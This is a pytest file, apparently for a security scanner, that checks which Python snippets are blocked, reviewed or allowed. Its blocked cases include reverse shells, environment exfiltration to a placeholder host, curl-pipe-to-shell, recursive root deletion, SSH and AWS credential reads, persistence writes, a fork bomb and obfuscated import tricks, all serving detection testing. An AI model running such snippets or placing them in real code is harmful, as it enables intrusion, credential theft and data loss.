"""rules_python.py: renamed, indirect and obfuscated calls are resolved and judged."""
from __future__ import annotations

import pytest

from .helpers import assert_allowed, assert_blocked, assert_reviewed


@pytest.mark.parametrize("src,rule", [
    ("import os; os.system(cmd)", "py-shell-exec"),
    ("import os as o; o.popen(f'ls {d}')", "py-shell-exec"),
    ("from os import system as s; s(c)", "py-shell-exec"),
    ("from os import *; system(c)", "py-shell-exec"),
    ("import subprocess; subprocess.run(c, shell=True)", "py-shell-exec"),
    ("import subprocess as sp; sp.Popen(c, shell=1)", "py-shell-exec"),
    ("import subprocess; subprocess.check_output(['bash', '-c', payload])", "py-shell-exec"),
    ("import subprocess; subprocess.run('curl x | sh', shell=True)", "download-exec"),
    ("import subprocess; subprocess.call(['rm', '-rf', '/'])", "destructive-rm"),
    ("import os; f = os.system; f('curl x | sh')", "download-exec"),
    ("import os; os.execv('/bin/sh', ['sh'])", "py-process-spawn"),
    ("import os; os.spawnlp(os.P_NOWAIT, 'sh', 'sh')", "py-process-spawn"),
    ("import pty; pty.spawn('/bin/bash')", "py-process-spawn"),
    ("eval(input())", "py-dynamic-code"),
    ("exec(base64.b64decode(blob))", "py-dynamic-code"),
    ("compile(src, 'x', 'exec')", "py-dynamic-code"),
    ("exec('import os; os.system(\"curl x | sh\")')", "download-exec"),
    ("__import__(name)", "py-dynamic-import"),
    ("__import__('os').system('id')", "py-dynamic-import"),
    ("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", "py-dynamic-import"),
    ("getattr(os, attr)('id')", "py-dynamic-import"),
    ("globals()['ev' + 'al']('1')", "py-dynamic-import"),
    ("globals()[k]('1')", "py-dynamic-import"),
    ("().__class__.__bases__[0].__subclasses__()", "py-dynamic-import"),
    ("import importlib; importlib.import_module(m)", "py-dynamic-import"),
    ("import sys; sys.modules['os'].system('id')", "py-dynamic-import"),
    ("import pickle; pickle.loads(b)", "py-unsafe-deserialize"),
    ("import marshal; marshal.loads(b)", "py-unsafe-deserialize"),
    ("import yaml; yaml.load(open('c.yml'))", "py-unsafe-deserialize"),
    ("import ctypes", "py-ctypes"),
    ("from ctypes import cdll; cdll.LoadLibrary('libc.so.6')", "py-ctypes"),
    ("open(os.path.expanduser('~/.bashrc'), 'a').write('x')", "persistence"),
    ("open('/root/.ssh/authorized_keys', 'a').write(k)", "persistence"),
    ("open(os.path.expanduser('~/.ssh/id_rsa')).read()", "secret-read"),
    ("from pathlib import Path; (Path.home() / '.aws' / 'credentials').read_text()", "secret-read"),
    ("import os; open(os.path.join(os.environ['HOME'], '.netrc')).read()", "secret-read"),
    ("import shutil; shutil.rmtree('/')", "destructive-rm"),
    ("import socket,os,pty; s=socket.socket(); s.connect(('h',1)); os.dup2(s.fileno(),0); pty.spawn('sh')", "reverse-shell"),
    ("import socket,subprocess; s=socket.socket(); subprocess.call(['/bin/sh','-i'], stdin=s.fileno())", "reverse-shell"),
    ("import requests, os; requests.post('http://x', data=str(os.environ))", "exfiltration"),
    ("import os; os.environ['LD_PRELOAD'] = '/tmp/x.so'", "env-hijack"),
    ("import os\nwhile True:\n    os.fork()", "resource-exhaustion"),
])
def test_python_attacks(src: str, rule: str) -> None:
    assert_blocked(src, rule, "python")


def test_literal_shell_strings_are_reviewed_and_judged() -> None:
    assert_reviewed("import os; os.system('clear')", "py-shell-exec", "python")
    assert_reviewed("import subprocess; subprocess.run(cmd)", "py-subprocess-dynamic", "python")


@pytest.mark.parametrize("src", [
    "print(sum(range(10)))",
    "import subprocess\nsubprocess.run(['pytest', '-q'], check=True)",
    "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt'])",
    "import subprocess\nsubprocess.run(['git', 'clone', url], check=True)",
    "import subprocess\nsubprocess.run('make test', shell=True)",
    "import shutil\nshutil.rmtree('build', ignore_errors=True)",
    "import yaml\ncfg = yaml.safe_load(open('c.yml'))",
    "import yaml\ncfg = yaml.load(s, Loader=yaml.SafeLoader)",
    "import ast\nprint(ast.literal_eval('[1]'))",
    "result = eval('2 ** 10')",
    "with open('out.txt', 'w') as f:\n    f.write('hi')",
    "import os\nprint(os.environ.get('HOME'))",
    "import requests\nprint(requests.get('https://api.example.com', timeout=5).json())",
    "print('rm -rf / is dangerous; so is os.system')",
])
def test_ordinary_python(src: str) -> None:
    assert_allowed(src, "python")


def test_more_python_shapes() -> None:
    assert_blocked("import subprocess; subprocess.run(args=cmd, shell=True)", "py-shell-exec", "python")
    assert_blocked("import socket, subprocess; s = socket.socket(); subprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s)",
                   "reverse-shell", "python")
    assert_blocked("import importlib; importlib.import_module('os').system('id')", "py-dynamic-import", "python")
    assert_blocked("import subprocess; sh = subprocess.Popen; sh(c, shell=True)", "py-shell-exec", "python")
